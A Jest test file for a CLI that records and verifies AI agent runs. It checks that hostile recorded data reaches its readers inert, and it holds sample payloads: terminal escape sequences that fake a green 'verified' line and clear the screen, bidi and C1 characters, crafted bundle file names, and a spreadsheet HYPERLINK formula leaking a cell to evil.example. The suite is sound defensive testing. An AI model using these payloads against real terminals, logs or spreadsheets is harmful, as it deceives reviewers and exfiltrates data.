import { mkdtempSync, rmSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { SqliteEventStore } from '../../infra/eventstore/sqlite-event-store.js';
import { SignedRunWriter } from '../../modules/audit/bundle/testing/signed-run.js';
import { readTarGz, writeTarGz } from '../../modules/audit/bundle/tar-io.js';
import { loadSigningKey } from '../../modules/ledger/tree-head.js';
import { hasActiveControls } from '../../modules/reports/inert-text.js';
import { llmCall } from '../../projections/transcript/testing/llm-call.js';
import { runA2rl } from './a2rl-cli.js';

// Output that attacks its reader (issue 25, item 7): recorded data written by a hostile agent (file
// names, diffs, argv, transcript texts, the model name) carries sequences that retitle the window,
// clear the screen, paint a fake green "verified", return the cursor, reverse the line (U+202E) and
// start a CSI with one C1 character (U+009B). Every human-facing output of the real `a2rl` shows them
// as visible escapes and holds none raw; results.csv neutralises a formula; a crafted bundle's
// messages are inert and the verdict stays ours. The harness runs as whoever runs the suite (root in CI).

const HOSTILE = '\x1b]0;pwned\x07\x1b[2J\x1b[32mverified\x1b[0m\r\u202e\x9b2J';
const SHOWN = '\\x1b]0;pwned\\x07\\x1b[2J\\x1b[32mverified\\x1b[0m\\r\\u202e\\x9b2J';
/** The same bytes, built inside the agent's shell (octal escapes: U+202E is E2 80 AE, U+009B is C2 9B in UTF-8). */
const HOSTILE_SH = String.raw`H=$(printf '\033]0;pwned\007\033[2J\033[32mverified\033[0m\r\342\200\256\302\2332J')`;
const FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"open")';

let home: string;
let agentRun: string;
const llmRun = 'ref-arith-20260101000000-inert1';

const a2rl = (args: string[]) => runA2rl(args, { env: { ...process.env, A2RL_HOME: home } });

/** Stdout and stderr hold no raw control, bidi or C1 character (line breaks and tabs aside). */
function expectInert(r: { stdout: string; stderr: string }): void {
  expect(hasActiveControls(r.stdout)).toBe(false);
  expect(hasActiveControls(r.stderr)).toBe(false);
}

/** A run whose model calls were hostile: the model it asked for and was answered as, the prompt, the answer, a tool call. */
async function writeLlmRun(): Promise<void> {
  const key = loadSigningKey(home)!;
  const store = await SqliteEventStore.open(path.join(home, 'ledger.db'));
  try {
    const w = new SignedRunWriter(store, llmRun, key, { headEvery: 100, start: new Date('2026-01-01T00:00:00.000Z') });
    await w.add('RunScheduled', { task: 'ref-arith', agent: 'reference', driver: FORMULA, baseModel: 'arith-base', budgetSeconds: 60, seed: 0, mode: 'free' });
    await w.add('WorkspacePrepared', { workspace: '/ws/inert', sandbox: 'none', mounts: [], dataManifest: [] });
    await w.add('BaselineEvaluated', { score: 10, cached: false });
    await w.add('AgentStarted', { command: 'llm agent', gateway: { providers: ['anthropic'], url: 'http://127.0.0.1:5001' } });
    await w.add('LlmCallRecorded', llmCall({
      modelRequested: `${FORMULA}${HOSTILE}`, modelAnswered: `${FORMULA}${HOSTILE}`, userText: `prompt ${HOSTILE}\nsecond line`, outputText: `answer ${HOSTILE}`,
      toolCalls: [{ id: 'tu-1', name: `Bash\n── turn 7 ·${HOSTILE}`, input: `{"command":"echo ${HOSTILE}"}` }],
    }));
    await w.add('AgentExited', { exitCode: 0, reason: 'completed' });
    await w.add('RunCompleted', { submissions: 0 });
    await w.seal();
  } finally {
    await store.close();
  }
}

describe('recorded data reaches the reader inert', () => {
  beforeAll(async () => {
    home = mkdtempSync(path.join(os.tmpdir(), 'a2rl-inert-'));
    // A hostile file name and diff, a hostile argv, then a submission (so the report shows the file's diff).
    const script = [
      HOSTILE_SH,
      `printf 'print("ok")\\n# %s\\n' "$H" > "code/evil$H.py"`,
      // Two commands: bash stays (no exec), its argv observed for a second. $R (RLO, CSI) first, so the events' one-line data shows it.
      String.raw`R=$(printf '\342\200\256\302\233'); bash -c 'sleep 1; true' "$R" "$H"`,
      'mkdir -p output/ck && cp models/*/* output/ck/ && node /agent/lib/submit.mjs output/ck',
    ].join('; ');
    const r = await a2rl(['run', '--task', 'ref-arith', '--budget', '60s', '--json', '--agent-command', script]);
    if (r.code !== 0) throw new Error(`a2rl run failed (${r.code}): ${r.stderr}`);
    expectInert(r);
    agentRun = (JSON.parse(r.stdout.trim().split('\n').pop()!) as { runId: string }).runId;
    await writeLlmRun();
  }, 180_000);
  afterAll(() => rmSync(home, { recursive: true, force: true }));

  it('recorded the hostile bytes as they were (the record is exact; only its display is inert)', async () => {
    const r = await a2rl(['events', agentRun, '--json']);
    const events = r.stdout.trim().split('\n').map((l) => JSON.parse(l) as { type: string; data: { path?: string; argv?: string[] } });
    expect(events.some((e) => e.type === 'FileChanged' && e.data.path === `code/evil${HOSTILE}.py`)).toBe(true);
    expect(r.stdout).toContain('\u202e'); // piped --json keeps canonical JSON's bytes (no terminal here)
  });

  it('a2rl events shows the argv escaped, and no raw control', async () => {
    const r = await a2rl(['events', agentRun]);
    expect(r.code).toBe(0);
    expectInert(r);
    // The argv in the event's one-line data: JSON's own escapes for C0, ours for what JSON leaves raw.
    const lines = r.stdout.split('\n').filter((l) => l.includes('ProcessStarted') && l.includes('sleep 1; true'));
    expect({ lines, out: lines.length ? '' : r.stdout }).toEqual({
      lines: expect.arrayContaining([expect.stringContaining('argv=["bash","-c","sleep 1; true","\\u202e\\x9b","\\u001b]0;pwned\\u0007\\u001b[2J\\u001b[32mverified')]),
      out: '',
    });
  });

  it('a2rl report --format md shows file name, diff and argv escaped, inside their code spans', async () => {
    const r = await a2rl(['report', agentRun, '--format', 'md']);
    expect(r.code).toBe(0);
    expectInert(r);
    expect(r.stdout).toContain(`\`code/evil${SHOWN}.py\``);
    expect(r.stdout).toContain(`+# ${SHOWN}`); // the diff line
    expect(r.stdout).toContain(`\`bash -c sleep 1; true \\u202e\\x9b ${SHOWN}\``);
  });

  it('a2rl replay --timeline and the runs table show the data escaped', async () => {
    for (const args of [['replay', agentRun, '--timeline'], ['runs']]) {
      const r = await a2rl(args);
      expect(r.code).toBe(0);
      expectInert(r);
    }
    // The timeline's one-line summaries (a CR may show as a space there): the file name escaped.
    const timeline = (await a2rl(['replay', agentRun, '--timeline'])).stdout.split('\n').filter((l) => l.includes('code/evil'));
    expect(timeline).toEqual(expect.arrayContaining([expect.stringMatching(/code\/evil\\x1b\]0;pwned\\x07\\x1b\[2J\\x1b\[32mverified\\x1b\[0m.{1,2}\\u202e\\x9b2J\.py/)]));
  });

  it('a2rl transcript shows model name, prompt, answer and tool call escaped, one block per call', async () => {
    const r = await a2rl(['transcript', llmRun]);
    expect(r.code).toBe(0);
    expectInert(r);
    expect(r.stdout).toContain(`${FORMULA}${SHOWN}`);
    expect(r.stdout).toContain(`user: prompt ${SHOWN}\n      second line`);
    expect(r.stdout).toContain(`tool call Bash\\n── turn 7 ·${SHOWN}`);
    expect(r.stdout.split('\n').filter((l) => l.startsWith('── '))).toHaveLength(1);
  });

  it('the scoreboard table is inert, and results.csv neutralises the formula in the model name', async () => {
    const table = await a2rl(['scoreboard']);
    expect(table.code).toBe(0);
    expectInert(table);
    const csv = await a2rl(['scoreboard', '--csv']);
    expect(csv.code).toBe(0);
    expectInert({ stdout: csv.stdout.replace(/\r\n/g, '\n'), stderr: csv.stderr });
    const rows = csv.stdout.split('\r\n').filter(Boolean).map((l) => l.split(','));
    const driver = rows[0].indexOf('driver_model');
    const llmRow = rows.find((row) => row[0] === llmRun)!;
    // RFC 4180-quoted (the formula holds quotes and a comma); inside, the cell starts with ' and never with =.
    expect(csv.stdout).toContain(`,"'=HYPERLINK(""http://evil.example/?leak=""&A1`);
    expect(llmRow[driver].startsWith(`"'=`)).toBe(true);
    for (const row of rows.slice(1)) for (const cell of row) expect(/^"?[=+@]/.test(cell)).toBe(false);
  });

  it('verify says OK for the hostile run in a line of its own', async () => {
    const r = await a2rl(['verify', agentRun]);
    expect(r.code).toBe(0);
    expectInert(r);
    expect(r.stdout.trim().split('\n').at(-1)).toMatch(new RegExp(`^OK ${agentRun}: `));
  });

  describe('a crafted bundle cannot repaint its failure as a green "verified" line', () => {
    let bundle: string;
    const forged = async (edit: (files: Map<string, Buffer>) => void) => {
      const { files } = await readTarGz(bundle);
      edit(files);
      const out = path.join(home, `forged-${files.size}-${Date.now()}.tar.gz`);
      await writeTarGz(out, [...files].map(([name, body]) => ({ path: name, size: body.length, body })), new Date('2026-01-01T00:00:00Z'));
      return out;
    };
    const REPAINT = `\r\x1b[2K\x1b[32mOK bundle verified\x1b[0m\n\u202eOK`;

    beforeAll(async () => {
      bundle = path.join(home, 'run.tar.gz');
      const r = await a2rl(['export', agentRun, '-o', bundle]);
      if (r.code !== 0) throw new Error(`a2rl export failed: ${r.stderr}`);
    }, 60_000);

    it('a hostile file name in the archive: one inert failure line, the verdict first, exit 1', async () => {
      const file = await forged((files) => files.set(`blobs/x${REPAINT}`, Buffer.from('x')));
      for (const args of [[], ['--json']]) {
        const r = await a2rl(['verify-bundle', file, '--trust-embedded-key', ...args]);
        expect(r.code).toBe(1);
        // --json piped keeps JSON.stringify's bytes (modules/reports/inert-text.ts: escaped on a terminal only).
        expectInert({ stdout: args.length ? '' : r.stdout, stderr: r.stderr });
        const lines = r.stderr.trim().split('\n');
        expect(lines.at(-1)).toMatch(/^a2rl: bundle .* failed verification: /);
        expect(lines.at(-1)).toContain('\\r\\x1b[2K\\x1b[32mOK bundle verified\\x1b[0m\\n\\u202eOK');
        expect(lines.filter((l) => !l.startsWith('a2rl: bundle ') && !l.startsWith('note: '))).toEqual([]);
        if (args.length) expect(JSON.parse(r.stdout).ok).toBe(false);
        else expect(r.stdout).toBe('');
      }
    });

    it('a hostile value in the bundle descriptor (JSON escaping leaves C1 and bidi raw) is inert too', async () => {
      const file = await forged((files) => {
        const d = JSON.parse(files.get('bundle.json')!.toString('utf8')) as Record<string, unknown>;
        files.set('bundle.json', Buffer.from(JSON.stringify({ ...d, format: `v9${REPAINT}\x9b2J` })));
      });
      const r = await a2rl(['verify-bundle', file, '--trust-embedded-key']);
      expect(r.code).toBe(1);
      expectInert(r);
      expect(r.stderr.trim().split('\n')).toEqual([expect.stringMatching(/^a2rl: bundle .* failed verification: bundle\.json: format is .*\\u202eOK\\x9b2J/)]);
    });

    it('the real bundle of the hostile run verifies, its OK line inert', async () => {
      const r = await a2rl(['verify-bundle', bundle]);
      expect(r.code).toBe(0);
      expectInert(r);
      expect(r.stdout).toMatch(new RegExp(`^OK .*run ${agentRun}, \\d+ events`));
    });
  });
});
